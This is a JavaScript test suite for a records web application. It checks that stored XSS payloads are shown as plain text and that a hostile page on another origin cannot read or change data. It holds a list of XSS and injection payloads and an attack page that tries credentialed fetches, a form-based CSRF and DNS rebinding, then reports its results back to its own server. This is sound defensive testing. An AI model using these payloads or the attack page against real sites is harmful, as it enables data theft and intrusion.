// What others put into records, and what other sites try: text stays text, and nobody gets in.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, afterEach, before, describe, test } from "node:test";
import { eventually, World } from "./world.mjs";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "\"><script>alert(1)</script>",
  "'-alert(1)-'",
  "javascript:alert(1)",
  "</textarea><script>alert(1)</script>",
  "</title><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import 'http://evil.example/x.css'</style>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "‮txt.exe‬ \u2028\u2029 ﷽",
  "=HYPERLINK(\"http://evil.example\")",
];

describe("hostile records", () => {
  let world, client;
  const rows = [];

  before(async () => {
    world = await World.open();
    client = await world.join("secretary", "<img src=x onerror=alert(1)>");
  });
  afterEach(() => world.leave());
  after(() => world.close());

  /** A row of each table this role may write, with a payload in every field that takes text. */
  async function writeAll(schema) {
    let next = 0;
    const payload = () => PAYLOADS[next++ % PAYLOADS.length];
    const person = await client.add("person", `name=${payload()}`);
    for (const table of schema.tables) {
      if (!table.write.includes("secretary")) continue;
      for (let round = 0; round < 2; round++) {
        const texts = {};
        const fields = [];
        let unmet = false; // it names a row of a table that this role may not write
        for (const field of table.fields) {
          const mine = (field.write ?? table.write).includes("secretary");
          const isText = mine && ["text", "place"].includes(field.type) && field.merge !== "set";
          if (isText && (field.bytes ?? 1000) >= 60) {
            texts[field.name] = payload();
            fields.push(`${field.name}=${texts[field.name]}`);
          } else if (field.required || table.key?.includes(field.name)) {
            const value = required(field, person, round);
            if (value !== undefined) fields.push(`${field.name}=${value}`);
            else unmet ||= field.required;
          }
        }
        if (unmet) continue;
        const id = await client.add(table.name, ...fields);
        // A natural key may have led to the row of the first round.
        const known = rows.find((row) => row.id === id);
        if (known) Object.assign(known.texts, texts);
        else rows.push({ table: table.name, id, texts });
      }
    }
  }

  function required(field, person, round) {
    if (field.codes) return field.codes[0][0];
    const known = (name) => (name === "person" ? person : rows.find((row) => row.table === name)?.id);
    const named = (field.refs ?? ["person"]).find(known);
    if (field.type === "ref_any" && named) return `${named}:${known(named)}`;
    if (field.type === "ref") return named && known(named);
    if (field.type === "date") return `2026-01-0${round + 1}`;
    if (field.type === "datetime") return `2026-01-0${round + 1}T10:00`;
    if (field.type === "month") return `2026-0${round + 1}`;
    if (field.type === "code") return `code${round}`;
    return field.required ? "1" : undefined;
  }

  test("a payload in every text field of every table is shown as the text it is", async () => {
    await writeAll(JSON.parse(await client.call("schema", "--json")));
    assert.ok(rows.length >= 25, `${rows.length} rows`);
    const visitor = await world.visit(client, { viewport: { width: 1366, height: 768 } });
    const { page } = visitor;
    const settled = () => page.waitForFunction(() => !document.body.innerText.includes("正在读取"));
    for (const { table, id, texts } of rows) {
      await visitor.go(`row/${table}/${id}`);
      await page.locator(".sections, .hint").first().waitFor();
      await settled();
      const shown = (await page.locator("main").textContent()).normalize();
      for (const text of Object.values(texts)) assert.ok(shown.includes(text.normalize()), `${table}: ${text}`);
      await visitor.go(`history/${table}/${id}`);
      await page.locator(".story").first().waitFor();
      const history = await page.locator("main").textContent();
      for (const text of Object.values(texts)) assert.ok(history.includes(text), `history of ${table}: ${text}`);
    }
    for (const table of new Set(rows.map((row) => row.table))) {
      await visitor.go(`list/${table}`);
      await settled();
      const { id } = rows.find((row) => row.table === table);
      await visitor.go(`edit/${table}/${id}`);
      await page.locator("form").waitFor();
    }
    await visitor.go(`find?search=${encodeURIComponent("<")}`);
    await settled();
    for (const place of ["", "unsent", "settings", "records"]) {
      await visitor.go(place);
      await settled();
    }
    assert.equal(await page.locator("main script, main iframe, main svg, main img, main math").count(), 0);
  });

  test("a draft, a conflict and an error sentence with payloads are text too", async () => {
    const [{ id }] = await client.json("list", "person");
    const visitor = await world.visit(client);
    const { page } = visitor;
    await visitor.go(`edit/person/${id}`);
    await page.getByLabel("备注").fill(PAYLOADS[0]);
    await page.getByLabel("职级").fill(PAYLOADS[1]);
    await visitor.draftKept();
    await client.call("set", "person", id, `rank=${PAYLOADS[2]}`, `kin=${PAYLOADS[3]}`);
    await page.getByLabel("紧急联系人").fill(PAYLOADS[4]);
    await visitor.tap("button", "保存");
    await page.getByText("已保存").waitFor();
    await visitor.go("conflicts");
    await page.locator(".conflict").first().waitFor();
    assert.ok((await page.locator("main").textContent()).includes(PAYLOADS[3]));
    await visitor.go("quick/person");
    await page.getByLabel("姓名").fill(PAYLOADS[6].repeat(10));
    await visitor.draftKept();
    await visitor.go("");
    await page.getByText("没写完的").waitFor();
    await visitor.tap("link", "接着写");
    visitor.quiet = /413/; // the answer that the browser notes in its console
    await visitor.tap("button", "保存");
    await page.locator(".fault, .failure").first().waitFor();
    await visitor.discard();
  });

  test("script from a record couldn't run even if a page wrote it as HTML", async () => {
    const visitor = await world.visit(client);
    visitor.quiet = /Trusted|Content Security Policy|Refused|violates/;
    const outcome = await visitor.page.evaluate(() => {
      const tries = [];
      const attempt = (name, act) => {
        try {
          act();
          tries.push(`${name}: went through`);
        } catch (failure) {
          tries.push(`${name}: ${failure.name}`);
        }
      };
      attempt("innerHTML", () => (document.body.innerHTML += "<img src=x onerror=alert(1)>"));
      attempt("script", () => (document.createElement("script").textContent = "alert(1)"));
      attempt("frame", () => (document.createElement("iframe").srcdoc = "<script>alert(1)</script>"));
      attempt("handler", () => document.body.setAttribute("onclick", "alert(1)"));
      document.body.click();
      attempt("policy", () => trustedTypes.createPolicy("x", { createHTML: (text) => text }));
      return tries;
    });
    assert.equal(outcome.length, 5);
    for (const line of outcome) assert.doesNotMatch(line, /went through/);
  });
});

describe("other sites", () => {
  let world, client, evil, evilPort;
  const reports = [];

  before(async () => {
    world = await World.open();
    client = await world.join("secretary");
    await client.add("person", "name=示例党员绝密001", "phone=1");
    await client.serve();
    const port = client.address.split(":")[1];
    evil = createServer((request, response) => {
      if (request.method === "POST") {
        let body = "";
        request.on("data", (part) => (body += part));
        request.on("end", () => (reports.push(body), response.end("ok")));
        return;
      }
      response.setHeader("Content-Type", "text/html");
      response.end(attackPage(port));
    });
    await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
    evilPort = evil.address().port;
  });
  after(async () => {
    evil.close();
    await world.close();
  });

  /** Everything a page of another origin can try against ours, reported back to its own server. */
  function attackPage(port) {
    const target = `http://127.0.0.1:${port}`;
    return `<!doctype html><body><script>
      const target = "${target}", tries = [];
      const note = (name, outcome) => tries.push(name + "=" + outcome);
      const reading = async (name, ask) => {
        try { const answer = await ask(); note(name, "read:" + (await answer.text()).slice(0, 300)); }
        catch { note(name, "refused"); }
      };
      const loading = (name, element) => new Promise((resolve) => {
        element.onload = () => (note(name, "loaded"), resolve());
        element.onerror = () => (note(name, "refused"), resolve());
        document.body.append(element);
        setTimeout(resolve, 2000);
      });
      const make = (tag, set) => Object.assign(document.createElement(tag), set);
      (async () => {
        await reading("get", () => fetch(target + "/api/rows/person", { credentials: "include" }));
        await reading("get no-cors", () => fetch(target + "/api/rows/person", { mode: "no-cors", credentials: "include" }));
        const body = JSON.stringify({ fields: { name: "stolen" } });
        await reading("post", () => fetch(target + "/api/rows/person", { method: "POST", body, credentials: "include", headers: { "Content-Type": "application/json" } }));
        await reading("post no-cors", () => fetch(target + "/api/rows/person", { method: "POST", mode: "no-cors", body, credentials: "include" }));
        navigator.sendBeacon(target + "/api/rows/person", new Blob([body], { type: "text/plain" }));
        await loading("image", make("img", { src: target + "/icon.svg" }));
        await loading("script", make("script", { src: target + "/assets/index.js", type: "module" }));
        await loading("json as script", make("script", { src: target + "/api/rows/person" }));
        await loading("style", make("link", { rel: "stylesheet", href: target + "/assets/index.css" }));
        await new Promise((resolve) => {
          const socket = new WebSocket(target.replace("http", "ws") + "/api/events");
          socket.onopen = () => (note("websocket", "open"), resolve());
          socket.onerror = () => (note("websocket", "refused"), resolve());
        });
        await new Promise((resolve) => {
          const events = new EventSource(target + "/api/events", { withCredentials: true });
          events.onopen = () => (note("events", "open"), resolve());
          events.onerror = () => (events.close(), note("events", "refused"), resolve());
        });
        const frame = make("iframe", { src: target + "/", name: "frame" });
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 1000));
        try { note("frame", "text:" + frame.contentDocument.body.innerText.slice(0, 100)); } catch { note("frame", "refused"); }
        const form = make("form", { action: target + "/api/rows/person", method: "post", enctype: "text/plain", target: "frame" });
        form.append(make("input", { name: body.slice(0, -1) + ',"x":"', value: '"}' }));
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 1000));
        await fetch("/report", { method: "POST", body: tries.join("\\n") });
      })();
    </script></body>`;
  }

  test("a page of another origin reads nothing and changes nothing, though the cookie is in the browser", async () => {
    const visitor = await world.visit(client);
    const before_ = await client.json("status");
    for (const host of ["127.0.0.1", "localhost"]) {
      reports.length = 0;
      const evilPage = await visitor.page.context().newPage();
      await evilPage.goto(`http://${host}:${evilPort}/`);
      const [report] = await eventually(() => reports.length > 0 && reports, `the report of ${host}`);
      const outcomes = report.split("\n");
      assert.ok(outcomes.length >= 11, report);
      for (const outcome of outcomes) assert.match(outcome, /=(refused|read:)$|^frame=text:$/, `${host}: ${outcome}`);
      assert.doesNotMatch(report, /绝密/);
      await evilPage.close();
    }
    assert.equal((await client.json("status")).entries, before_.entries);
    assert.equal((await client.json("list", "person")).length, 1);
    visitor.troubles.length = 0;
    await world.leave();
  });

  test("a name that is rebound to this machine shows nothing", async () => {
    await world.chromium.close();
    world.chromium = undefined;
    const port = client.address.split(":")[1];
    const browser = await world.browser([`--host-resolver-rules=MAP evil.example 127.0.0.1`]);
    const page = await browser.newPage();
    for (const path of ["/", "/api/rows/person", `/start?token=${client.link.split("=")[1]}`]) {
      const answer = await page.goto(`http://evil.example:${port}${path}`);
      assert.equal(answer.status(), 421, path);
      assert.doesNotMatch(await page.content(), /绝密/);
    }
    assert.equal((await page.context().cookies()).length, 0);
  });
});
